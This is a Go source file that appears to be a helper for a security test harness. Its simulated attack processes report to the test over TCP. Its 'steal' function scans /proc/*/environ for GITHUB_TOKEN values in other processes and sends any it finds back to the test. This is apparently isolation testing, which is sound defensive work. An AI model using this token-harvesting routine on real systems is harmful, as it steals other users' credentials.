//go:build linux

package main

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"time"

	"golang.org/x/sys/unix"
)

// lineFD is the lifeline in every process of an attack, at a number that nothing else has. startedFD is the pipe that leave reads until
// the attack stands.
const (
	startedFD = 3
	lineFD    = 100
)

// dial opens the lifeline, introduces the attack, and waits until the test has it in its list.
func (o options) dial() error {
	c, err := net.Dial("tcp", o.line)
	if err != nil {
		return err
	}
	real, effective, saved := unix.Getresuid()
	if _, err := fmt.Fprintf(c, "%s %d pid %d, uids %d %d %d\n", o.name, os.Getpid(), os.Getpid(), real, effective, saved); err != nil {
		return err
	}
	if _, err := io.ReadFull(c, make([]byte, 1)); err != nil {
		return fmt.Errorf("the test does not answer: %w", err)
	}
	file, err := c.(*net.TCPConn).File()
	if err != nil {
		return err
	}
	return errors.Join(unix.Dup2(int(file.Fd()), lineFD), file.Close(), c.Close(), unix.SetNonblock(lineFD, false))
}

// failed reports to the test that a command failed, as a lifeline that is over at once.
func (o options) failed(err error) {
	c, derr := net.Dial("tcp", o.line)
	if derr != nil {
		return
	}
	defer c.Close()
	_, _ = fmt.Fprintf(c, "%s/failed %d %q\n", o.name, os.Getpid(), err) // there is no third way
}

// hold is a job of the run after: it has a secret in its environment, and ends when the test lets it.
func hold(o options) error {
	if err := o.dial(); err != nil {
		return err
	}
	return waitForEnd()
}

// waitForEnd waits until the test closes the lifeline.
func waitForEnd() error {
	for {
		n, err := unix.Read(lineFD, make([]byte, 1))
		if n == 0 && err == nil {
			return nil
		}
		if err != nil && !errors.Is(err, unix.EINTR) {
			return err
		}
	}
}

// steal reports the first token that it finds in the environment of another process.
func steal(options) error {
	real, effective, saved := unix.Getresuid()
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(time.Millisecond) {
		files, err := filepath.Glob("/proc/[0-9]*/environ")
		if err != nil {
			return err
		}
		for _, f := range files {
			text, _ := os.ReadFile(f) // another user's, or gone
			if _, token, ok := bytes.Cut(append([]byte{0}, text...), []byte("\x00GITHUB_TOKEN=")); ok {
				token, _, _ = bytes.Cut(token, []byte{0})
				text := fmt.Sprintf("pid %d, uids %d %d %d stole %s from %s\n", os.Getpid(), real, effective, saved, token, f)
				_, err := unix.Write(lineFD, []byte(text))
				return err
			}
		}
	}
	_, err := unix.Write(lineFD, []byte("found no token\n"))
	return err
}
